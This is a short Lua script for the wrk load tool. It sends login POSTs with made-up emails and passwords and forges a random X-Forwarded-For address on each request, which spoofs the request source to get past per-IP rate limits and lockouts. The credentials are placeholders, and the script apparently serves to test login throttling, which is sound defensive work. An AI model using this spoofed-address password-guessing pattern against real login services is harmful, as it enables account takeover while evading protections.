-- Guesses passwords, each from an address of its own and for an account of its own.
wrk.method = "POST"
wrk.headers["Content-Type"] = "application/json"

request = function()
  local n = math.random(1, 16000000)
  wrk.headers["X-Forwarded-For"] = string.format("10.%d.%d.%d", n / 65536 % 256, n / 256 % 256, n % 256)
  wrk.body = string.format('{"email":"guess%d@example.com","password":"guess-%d"}', n, n)
  return wrk.format()
end
